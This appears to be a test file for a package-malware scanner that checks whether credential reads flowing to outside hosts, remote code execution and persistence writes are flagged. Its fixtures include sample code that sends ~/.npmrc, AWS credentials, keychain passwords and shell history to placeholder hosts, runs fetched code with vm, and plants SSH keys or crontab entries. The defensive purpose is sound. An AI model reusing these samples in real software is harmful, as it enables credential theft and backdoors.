import { posix } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CodeFacts } from '../code/code-facts.js';
import { javascriptFacts } from '../code/javascript/index.js';
import { pythonFacts } from '../code/python-facts.js';
import { CAPABILITY_COOCCURRENCE_TITLE, CAPABILITY_FLOW_TITLE, CAPABILITY_PLANT_TITLE, CAPABILITY_REMOTE_EXEC_TITLE, capabilityFindings, capabilityModule, type AutoRunEntry, type CapabilityModule } from './capability-findings.js';
import { SECRET_OR_USER_DATA_SOURCE, capabilityProfile } from './capability-profile.js';
import { packageIdentity } from './package-identity.js';

/** Builds the module graph of an in-memory package (relative imports only) the way the packages agent does. */
function graph(files: Record<string, string>): { modules: Map<string, CapabilityModule>; resolve: (spec: string, from: string, language: CodeFacts['language']) => string | null } {
  const resolve = (spec: string, from: string, language: CodeFacts['language']): string | null => {
    const dir = posix.dirname(from);
    if (language === 'python') {
      const dots = /^\.*/.exec(spec)![0].length;
      let base = dots === 0 || dir === '.' ? '' : dir;
      for (let k = 1; k < dots; k++) base = posix.dirname(base) === '.' ? '' : posix.dirname(base);
      const stem = [base, spec.slice(dots).replace(/\./g, '/')].filter((x) => x !== '').join('/');
      return [`${stem}.py`, `${stem}/__init__.py`].find((p) => p in files) ?? null;
    }
    const stem = posix.normalize(posix.join(dir, spec));
    return [stem, `${stem}.js`, `${stem}/index.js`].find((p) => p in files) ?? null;
  };
  const modules = new Map<string, CapabilityModule>();
  for (const [rel, text] of Object.entries(files)) {
    const facts = rel.endsWith('.py') ? pythonFacts(text) : javascriptFacts(text);
    modules.set(rel, capabilityModule(rel, facts, text, resolve));
  }
  return { modules, resolve };
}

const judge = (files: Record<string, string>, entries: AutoRunEntry[], options: { name?: string; urls?: string[]; documented?: string[] } = {}) => {
  const { modules, resolve } = graph(files);
  return capabilityFindings(modules, entries, { identity: packageIdentity(options.name ?? 'left-pad-utils', options.urls ?? []), documentedHosts: new Set(options.documented ?? []) }, resolve);
};

const GATHER = `const fs = require('fs'); const os = require('os'); const path = require('path');
function read(p) { try { return fs.readFileSync(p, 'utf8'); } catch { return ''; } }
exports.collect = () => ({ npm: read(path.join(os.homedir(), '.npmrc')) });
`;
const UPLOAD = `const https = require('https');
exports.send = (d) => { const r = https.request({ hostname: 'collector.example', method: 'POST' }); r.end(JSON.stringify(d)); };
`;

describe('capabilityProfile', () => {
  it('reads a credential through a function of the file that wraps the read, at load or not', () => {
    const facts = javascriptFacts(GATHER);
    const caps = capabilityProfile(facts, GATHER).capabilities;
    expect(caps.filter((c) => c.kind === 'secret-read').map((c) => c.atLoad)).toEqual([false]);
  });

  it('reads user data: history files and a walk of the home directory', () => {
    const text = `const fs = require('fs'); const os = require('os'); const path = require('path');
const h = fs.readFileSync(path.join(os.homedir(), '.zsh_history'), 'utf8');
const all = fs.readdirSync(os.homedir(), { recursive: true });
`;
    const caps = capabilityProfile(javascriptFacts(text), text).capabilities.filter((c) => c.kind === 'user-data');
    expect(caps.map((c) => [c.line, c.atLoad])).toEqual([
      [2, true],
      [3, true],
    ]);
  });

  it('reads a file under a credential directory named beside the home directory (Python)', () => {
    const text = `import os
def gather(name):
    p = os.path.join(os.path.expanduser("~"), ".aws", name)
    with open(p) as fh:
        return fh.read()
`;
    const caps = capabilityProfile(pythonFacts(text), text).capabilities;
    expect(caps.some((c) => c.kind === 'secret-read' && c.detail.includes('.aws'))).toBe(true);
  });

  it('keychain lookups, clipboard commands and message stores are sources; the hint for other agents names them', () => {
    const js = `const { execSync } = require('child_process');
const token = execSync('security find-generic-password -s github.com -w').toString();
const clip = execSync('xclip -selection clipboard -o').toString();
`;
    expect(capabilityProfile(javascriptFacts(js), js).capabilities.map((c) => [c.kind, c.line])).toEqual([
      ['secret-read', 2],
      ['user-data', 3],
    ]);
    const py = `import keyring, sqlite3
pw = keyring.get_password("svc", "me")
con = sqlite3.connect("/Users/me/Library/Messages/chat.db")
`;
    expect(capabilityProfile(pythonFacts(py), py).capabilities.map((c) => [c.kind, c.line])).toEqual([
      ['secret-read', 2],
      ['user-data', 3],
    ]);
    // Copying to the clipboard (xclip without -o) and an ordinary database are not sources.
    const honest = `const { execSync } = require('child_process');
execSync('xclip -selection clipboard', { input: text });
`;
    expect(capabilityProfile(javascriptFacts(honest), honest).capabilities).toEqual([]);
    for (const t of [js, py, 'subprocess.check_output(["pbpaste"])', 'open(os.path.join(home, ".zsh_history"))', "join(home, 'Library/Application Support/Signal/sql/db.sqlite')"]) expect(SECRET_OR_USER_DATA_SOURCE.test(t)).toBe(true);
    for (const t of [honest, "fs.readFileSync('notes.db')", 'navigator.clipboard.writeText(x)']) expect(SECRET_OR_USER_DATA_SOURCE.test(t)).toBe(false);
  });

  it('a plain config file of the package is no secret read', () => {
    const text = `const fs = require('fs'); const path = require('path');
module.exports = JSON.parse(fs.readFileSync(path.join(__dirname, 'config.json'), 'utf8'));
`;
    expect(capabilityProfile(javascriptFacts(text), text).capabilities).toEqual([]);
  });
});

describe('capabilityFindings', () => {
  const install = (rel: string): AutoRunEntry[] => [{ rel, when: 'install' }];

  it('follows what a reading module returns, through a variable, into a sending module called by main() at install: CRIT', () => {
    const files = {
      'setup/index.js': `const g = require('./gather'); const u = require('./upload');
async function main() { const data = g.collect(); await u.send(data); }
main();
`,
      'setup/gather.js': GATHER,
      'setup/upload.js': UPLOAD,
    };
    const found = judge(files, install('setup/index.js'));
    expect(found.map((f) => [f.severity, f.title, f.file])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE, 'setup/index.js']]);
  });

  it('a send whose arguments name a binding imported from a module that reads history: CRIT (ES modules)', () => {
    const files = {
      'index.js': `import './sync.js';\n`,
      'recent.js': `import { readFileSync } from 'node:fs'; import { homedir } from 'node:os'; import { join } from 'node:path';
export const recent = readFileSync(join(homedir(), '.bash_history'), 'utf8');
`,
      'sync.js': `import { recent } from './recent.js';
fetch('https://themes.example/usage', { method: 'POST', body: recent });
`,
    };
    expect(judge(files, [{ rel: 'index.js', when: 'load' }]).map((f) => [f.severity, f.title])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE]]);
  });

  it('a binding re-exported by a barrel module still comes from the module that reads it (and a Python star import)', () => {
    const files = {
      'index.js': `import './sync.js';\n`,
      'lib/index.js': `export * from './recent.js';\nexport { palette } from './palette.js';\n`,
      'lib/palette.js': `export const palette = ['#fff'];\n`,
      'lib/recent.js': `import { readFileSync } from 'node:fs'; import { homedir } from 'node:os'; import { join } from 'node:path';
export const recent = readFileSync(join(homedir(), '.npmrc'), 'utf8');
`,
      'sync.js': `import { recent } from './lib/index.js';
fetch('https://themes.example/usage', { method: 'POST', body: recent });
`,
    };
    expect(judge(files, [{ rel: 'index.js', when: 'load' }]).map((f) => [f.severity, f.title])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE]]);
    const py = {
      'pkg/__init__.py': `from ._all import *\n`,
      'pkg/_all.py': `from ._creds import TOKEN\nfrom ._net import ship\nship(TOKEN)\n`,
      'pkg/_creds.py': `import os\nTOKEN = open(os.path.expanduser("~/.npmrc")).read()\n`,
      'pkg/_net.py': `import requests\ndef ship(t):\n    requests.post("https://mirror.example/c", data=t)\n`,
    };
    expect(judge(py, [{ rel: 'pkg/__init__.py', when: 'load' }]).map((f) => [f.severity, f.title])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE]]);
  });

  it('code in functions that still runs at load: an invoked function expression, a timer callback, a setuptools command class', () => {
    const reader = { 'env.js': `exports.capture = () => JSON.stringify(process.env);\n`, 'net.js': `exports.post = (b) => fetch('https://cdn.example/e', { method: 'POST', body: b });\n` };
    const iife = { ...reader, 'index.js': `(async () => { const s = require('./env').capture(); await require('./net').post(s); })();\n` };
    expect(judge(iife, [{ rel: 'index.js', when: 'load' }]).map((f) => f.severity)).toEqual(['CRIT']);
    const timer = { ...reader, 'index.js': `setTimeout(function () {\n  const s = require('./env').capture();\n  require('./net').post(s);\n}, 1000);\n` };
    expect(judge(timer, [{ rel: 'index.js', when: 'load' }]).map((f) => f.severity)).toEqual(['CRIT']);
    // Exported only: nothing runs it at load.
    const exported = { ...reader, 'index.js': `exports.warm = function () {\n  const s = require('./env').capture();\n  require('./net').post(s);\n};\n` };
    expect(judge(exported, [{ rel: 'index.js', when: 'load' }])).toEqual([]);
    const setup = {
      'setup.py': `from setuptools import setup
from setuptools.command.install import install
from helper._probe import probe
from helper._agent import report
class Post(install):
    def run(self):
        report(probe())
setup(name="helper", cmdclass={"install": Post})
`,
      'helper/__init__.py': '',
      'helper/_probe.py': `import subprocess\ndef probe():\n    return subprocess.check_output(["security", "find-generic-password", "-wa", "Chrome"])\n`,
      'helper/_agent.py': `import subprocess\ndef report(v):\n    subprocess.run(["curl", "-s", "-d", v, "https://stats.example/r"])\n`,
    };
    expect(judge(setup, [{ rel: 'setup.py', when: 'install' }]).map((f) => [f.severity, f.file])).toEqual([['CRIT', 'setup.py']]);
  });

  it('a Python `from . import a, b` reader called into a variable handed to the sender: CRIT', () => {
    const files = {
      'pkg/__init__.py': '',
      'pkg/__main__.py': `from .server import main\nmain()\n`,
      'pkg/server.py': `import threading\nfrom . import collect, report\n\ndef _warm():\n    snapshot = collect.recent()\n    report.send(snapshot)\n\ndef main():\n    threading.Thread(target=_warm).start()\n`,
      'pkg/collect.py': `import subprocess\n\ndef recent():\n    return subprocess.check_output(["pbpaste"], text=True)\n`,
      'pkg/report.py': `import urllib.request\n\ndef send(d):\n    urllib.request.urlopen(urllib.request.Request("https://metrics.example/in", data=d.encode()))\n`,
    };
    expect(judge(files, [{ rel: 'pkg/__main__.py', when: 'start' }]).map((f) => [f.severity, f.title, f.file])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE, 'pkg/server.py']]);
  });

  it('code another module fetched, run on an automatic path: CRIT; the same loader behind an API nobody calls at load: nothing', () => {
    const files = {
      'install.js': `const loader = require('./lib/loader');\nconst vm = require('vm');\nasync function main() {\n  const src = await loader.get('hooks.js');\n  vm.runInThisContext(src);\n}\nmain();\n`,
      'lib/loader.js': `exports.get = async (name) => (await fetch('https://cdn.hooks.example/' + name)).text();\n`,
    };
    expect(judge(files, [{ rel: 'install.js', when: 'install' }]).map((f) => [f.severity, f.title, f.category, f.line])).toEqual([['CRIT', CAPABILITY_REMOTE_EXEC_TITLE, 'remote_code_execution', 5]]);
    const lazy = { ...files, 'install.js': `const loader = require('./lib/loader');\nconst vm = require('vm');\nexports.load = async (n) => vm.runInThisContext(await loader.get(n));\n` };
    expect(judge(lazy, [{ rel: 'install.js', when: 'load' }])).toEqual([]);
    // Parsing what was fetched is no execution.
    const parsed = { ...files, 'install.js': files['install.js'].replace('vm.runInThisContext(src)', 'JSON.parse(src)') };
    expect(judge(parsed, [{ rel: 'install.js', when: 'install' }])).toEqual([]);
    // A bundle's code generator (Ajv) builds a function from a name a chunk that also makes requests exports: no fetched text.
    const bundle = {
      'index.js': 'import { n as Hi, $ as ei } from "./chunk.js";\nconst code = ei.scope + Hi.body;\nconst f = new Function(`${ei.self}`, code)(1);\n',
      'chunk.js': 'export const $ = { self: "self", scope: "" };\nexport const n = { body: "return 1" };\nexport const get = (u) => fetch("https://api.example/" + u);\n',
    };
    expect(judge(bundle, [{ rel: 'index.js', when: 'load' }])).toEqual([]);
  });

  it('writes that plant access or persistence on an automatic path: authorized_keys CRIT, a crontab or shell startup file HIGH', () => {
    const keys = {
      'setup.js': `const ssh = require('./ssh');\nssh.enable();\n`,
      'ssh.js': `const fs = require('fs'); const os = require('os'); const path = require('path');\nexports.enable = () => fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA deploy');\n`,
    };
    expect(judge(keys, [{ rel: 'setup.js', when: 'install' }]).map((f) => [f.severity, f.title, f.file])).toEqual([['CRIT', CAPABILITY_PLANT_TITLE, 'ssh.js']]);
    const cron = { 'setup.js': `const { execSync } = require('child_process');\nexecSync('(crontab -l; echo "*/5 * * * * ' + cmd + '") | crontab -');\n` };
    expect(judge(cron, [{ rel: 'setup.js', when: 'install' }]).map((f) => f.severity)).toEqual(['HIGH']);
    // The same writes behind a command the user runs are not automatic; listing a crontab is no write.
    expect(judge(keys, [])).toEqual([]);
    const list = { 'setup.js': `const { execSync } = require('child_process');\nconst jobs = execSync('crontab -l').toString();\n` };
    expect(judge(list, [{ rel: 'setup.js', when: 'install' }])).toEqual([]);
  });

  it('a read and an outside send on one automatic path with no flow between them: HIGH co-occurrence', () => {
    const files = {
      'index.js': `const g = require('./gather'); const u = require('./upload');
g.collect(); u.send({ v: 1 });
`,
      'gather.js': GATHER,
      'upload.js': UPLOAD,
    };
    expect(judge(files, [{ rel: 'index.js', when: 'load' }]).map((f) => [f.severity, f.title])).toEqual([['HIGH', CAPABILITY_COOCCURRENCE_TITLE]]);
  });

  it('nothing when the send goes to the package’s own host, a README-documented host, or when nothing runs by itself', () => {
    const files = {
      'index.js': `const g = require('./gather'); const u = require('./upload');
u.send(g.collect());
`,
      'gather.js': GATHER,
      'upload.js': UPLOAD,
    };
    expect(judge(files, [{ rel: 'index.js', when: 'load' }]).map((f) => f.severity)).toEqual(['CRIT']);
    expect(judge(files, [{ rel: 'index.js', when: 'load' }], { urls: ['https://collector.example/docs'] })).toEqual([]);
    expect(judge(files, [{ rel: 'index.js', when: 'load' }], { documented: ['collector.example'] })).toEqual([]);
    // The same code behind a function nobody calls at load (a library's API).
    const lazy = { ...files, 'index.js': `const g = require('./gather'); const u = require('./upload');\nexports.sync = () => u.send(g.collect());\n` };
    expect(judge(lazy, [{ rel: 'index.js', when: 'load' }])).toEqual([]);
    // Entries under tests and examples are not followed.
    expect(judge({ ...files, 'test/index.js': files['index.js'] }, [{ rel: 'test/index.js', when: 'load' }])).toEqual([]);
  });

  it('a telemetry ping with a documented opt-out beside an environment copy is not a theft; beside a credential read it is', () => {
    const telemetry = `import json, os, urllib.request
def ping():
    if os.environ.get("DO_NOT_TRACK"):
        return
    urllib.request.urlopen(urllib.request.Request("https://usage.stats.example/ping", data=b"{}"))
`;
    const files = {
      'pkg/__init__.py': `from ._env import ENV\nfrom ._telemetry import ping\nping()\n`,
      'pkg/_env.py': `import os\nENV = dict(os.environ)\n`,
      'pkg/_telemetry.py': telemetry,
    };
    expect(judge(files, [{ rel: 'pkg/__init__.py', when: 'load' }])).toEqual([]);
    const stealing = { ...files, 'pkg/_env.py': `import os\nENV = open(os.path.expanduser("~/.aws/credentials")).read()\n` };
    expect(judge(stealing, [{ rel: 'pkg/__init__.py', when: 'load' }]).map((f) => f.title)).toEqual([CAPABILITY_COOCCURRENCE_TITLE]);
  });
});
